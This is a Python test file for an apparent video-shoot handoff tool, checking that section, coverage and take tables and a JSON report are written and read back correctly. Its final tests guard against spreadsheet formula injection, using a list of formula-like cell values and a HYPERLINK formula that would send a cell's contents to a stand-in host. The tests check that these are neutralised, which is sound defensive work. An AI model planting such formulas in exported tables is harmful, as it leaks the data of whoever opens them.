"""Tables of sections and of coverage, and the report, read back with Python's csv and json modules."""

import csv
import json
from dataclasses import replace
from fractions import Fraction
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.handoff.choices import DEFAULT, Form
from app.handoff.outcome import HandoffError
from app.handoff.report import report
from app.handoff.tables import coverage_table, report_file, section_table, table_text, take_table
from app.handoff.tables.table_text import Table
from app.model.document.angle import Angle
from app.model.document.song import Song
from app.model.document.verdict import Verdict
from app.model.on_song import Clip, SongView, on_song
from app.model.storage.guard import NO_CLIPS
from tests.app.random_shoots import any_shoots, clip, media, sensible_shoots, shoot, take

TSV = replace(DEFAULT, form=Form.TSV)
TWO = shoot(
    clip(1, take("a", 0.0, 8.0), take("d", 8.0, 12.0, verdict=Verdict.DOUBTFUL)),
    clip(2, take("b", 4.0, 16.0), angle="angle-2"),
    angles=(Angle("angle-1", "Fiddle"), Angle("angle-2", "Wide", safety=True)),
)


def rows(path: Path, form: Form = Form.CSV) -> list[dict[str, str]]:
    """A table as Python's own module reads it."""
    with path.open(encoding="utf-8", newline="") as file:
        if form is Form.CSV:
            return list(csv.DictReader(file, strict=True))
        return list(csv.DictReader(file, delimiter="\t", quoting=csv.QUOTE_NONE))


def test_sections_tell_their_bars_depths_and_thin_places(tmp_path: Path) -> None:
    section_table.write(TWO, tmp_path / "s.csv")
    verse, chorus = rows(tmp_path / "s.csv")
    assert (verse["letter"], verse["name"], verse["first_bar"], verse["last_bar"]) == ("A", "Verse", "1", "4")
    assert (verse["start_timecode"], verse["end_timecode"]) == ("01:00:00:00", "01:00:08:00")
    assert (verse["least_depth"], verse["most_depth"]) == ("1", "2")
    assert verse["thin"] == "bars 1–2: one angle only (Fiddle)"
    assert chorus["thin"] == "bars 5–8: safety only; bars 9–12: nothing"
    assert float(chorus["end_s"]) == 24.0


def test_coverage_is_a_line_a_bar(tmp_path: Path) -> None:
    written = coverage_table.write(TWO, tmp_path / "c.csv", replace(DEFAULT, start="00:59:58:00"))
    found = rows(tmp_path / "c.csv")
    assert [row["depth"] for row in found] == list("112211110000")
    assert [row["bar"] for row in found] == [str(n) for n in range(1, 13)]
    assert found[2]["takes"] == "clip_01.mov, take 1; clip_02.mov"
    assert (found[4]["safety_only"], found[4]["doubtful"]) == ("yes", "clip_01.mov, take 2")
    assert found[1]["start_timecode"] == "01:00:00:00"
    assert written.lines == ("12 bars, one row each; 4 not covered.",)


def test_clips_of_one_name_are_told_apart(tmp_path: Path) -> None:
    two = [clip(n, take(f"t{n}", 0, 9), media=media(f"/cards/{n}/CLIP.MOV")) for n in (1, 2)]
    coverage_table.write(shoot(*two), tmp_path / "c.csv")
    assert rows(tmp_path / "c.csv")[0]["takes"] == "1/CLIP.MOV; 2/CLIP.MOV"


def test_a_table_with_fewer_columns_is_one_of_ours_and_another_is_not(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    for columns, ours in (
        (coverage_table.COLUMNS, True),
        (coverage_table.COLUMNS[:-1], True),
        (coverage_table.COLUMNS[:2], False),
        ((*coverage_table.COLUMNS, "more"), False),
        (coverage_table.COLUMNS[1:], False),
    ):
        path.write_text(",".join(columns) + "\r\n1,A")
        assert table_text.begins_as(path, coverage_table.COLUMNS, Form.CSV) is ours, columns


def test_without_bars_sections_are_told_and_without_song_nothing(tmp_path: Path) -> None:
    bare = replace(TWO, song=Song(media("/shoot/waltz.wav"), 24.0))
    coverage_table.write(bare, tmp_path / "c.csv")
    section_table.write(bare, tmp_path / "s.csv")
    assert [row["section"] for row in rows(tmp_path / "c.csv")] == ["Whole song"]
    assert rows(tmp_path / "s.csv")[0]["first_bar"] == ""
    coverage_table.write(SongView(), tmp_path / "c.csv")
    assert rows(tmp_path / "c.csv") == []


def test_a_rate_without_timecode_leaves_labels_empty(tmp_path: Path) -> None:
    section_table.write(TWO, tmp_path / "s.csv", replace(DEFAULT, rate=Fraction(100)))
    assert [row["start_timecode"] for row in rows(tmp_path / "s.csv")] == ["", ""]


def test_tabs_part_cells_and_no_cell_holds_one(tmp_path: Path) -> None:
    # text/tab-separated-values (IANA): fields hold no tabs, and nothing is quoted.
    odd = shoot(clip(1, take("t", 0, 5)), angles=(Angle("angle-1", 'Fid\tdle "near"\nlow'),))
    take_table.write(odd, tmp_path / "x.tsv", Form.TSV)
    (row,) = rows(tmp_path / "x.tsv", Form.TSV)
    assert row["angle"] == 'Fid dle "near" low'
    assert (tmp_path / "x.tsv").read_bytes().count(b"\n") == 2


@given(
    st.lists(
        st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00")), min_size=3, max_size=3),
        max_size=4,
    ),
    st.sampled_from(Form),
)
def test_any_cells_are_read_back(cells: list[list[str]], form: Form) -> None:
    table = Table(("a", "b", "c"), tuple(dict(zip("abc", line, strict=True)) for line in cells))
    found = table_text.read(table_text.to_text(table, form), form)
    expected = [[table_text.cell(text, form) for text in line] for line in cells]
    assert [list(row.values()) for row in found] == expected
    if form is Form.CSV:
        assert expected == cells


@given(value=sensible_shoots(), form=st.sampled_from(Form))
def test_any_shoot_gives_tables(
    value: SongView, form: Form, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("tables")
    choices = replace(DEFAULT, form=form)
    take_table.write(value, folder / "t", form)
    section_table.write(value, folder / "s", choices)
    coverage_table.write(value, folder / "c", choices)
    assert len(rows(folder / "t", form)) == sum(max(1, len(one.takes)) for one in value.clips)
    assert len(rows(folder / "c", form)) == 90


@given(value=any_shoots().map(on_song))
def test_any_report_is_read_back(value: SongView, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.mktemp("report") / "r.json"
    report_file.write(value, path)
    assert json.loads(path.read_text("utf-8")) == json.loads(json.dumps(report(value)))


def test_a_report_of_a_name_that_is_no_text_is_written(tmp_path: Path) -> None:
    value = SongView(clips=(Clip("c", media("/cards/\udcff.mov"), ""),))
    report_file.write(value, tmp_path / "r.json")
    assert json.loads((tmp_path / "r.json").read_text("utf-8"))["clips"][0]["path"] == "/cards/?.mov"


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    for write in (
        lambda: report_file.write(TWO, tmp_path / "no" / "r.json"),
        lambda: section_table.write(TWO, tmp_path / "no" / "s.csv"),
    ):
        with pytest.raises(HandoffError, match="could not be written: No such file"):
            write()


# What a spreadsheet would take for a formula, as cells of people's own.
FORMULAS = ("=1+2", "+take", "-take", "@name", "\t=1", "\r=1", " =1", "'=1", "''=1", "=", "-", "＝1")
HARMLESS = ("-0.5", "+3", "-1e-05", "Verse - 2", "'tis", "'-0.5", "", "A=B", "–")


@pytest.mark.parametrize("form", Form)
def test_no_cell_is_a_formula_to_a_spreadsheet(form: Form, tmp_path: Path) -> None:
    """A formula in a note would be worked out, or sent elsewhere, by whoever opens the table."""
    columns = ("a", "b")
    table = Table(columns, tuple({"a": text, "b": "-0.5"} for text in (*FORMULAS, *HARMLESS)))
    path = tmp_path / f"x.{form}"
    table_text.write(path, table, form, NO_CLIPS)
    found = [row["a"] for row in rows(path, form)]
    assert [row["b"] for row in rows(path, form)] == ["-0.5"] * len(found)
    for text in found[: len(FORMULAS)]:
        assert text.startswith("'")
    assert found[len(FORMULAS) :] == list(HARMLESS)
    again = [row["a"] for row in table_text.read(path.read_bytes(), form)]
    assert again == [table_text.cell(text, form) for text in (*FORMULAS, *HARMLESS)]


@given(st.text(alphabet="'=+-@ \t\r1.e＝x"))
def test_every_cell_reads_back_as_it_was(text: str) -> None:
    for form in Form:
        table = Table(("a", "b"), ({"a": text, "b": "x"},))
        assert table_text.read(table_text.to_text(table, form), form)[0]["a"] == table_text.cell(text, form)


def test_a_note_that_is_a_formula_is_text_in_the_table_of_takes(tmp_path: Path) -> None:
    note = '=HYPERLINK("https://example.org/?"&A1)'
    take_table.write(shoot(clip(1, take("a", 0, 5), note=note)), tmp_path / "t.csv")
    assert rows(tmp_path / "t.csv")[0]["note"] == f"'{note}"
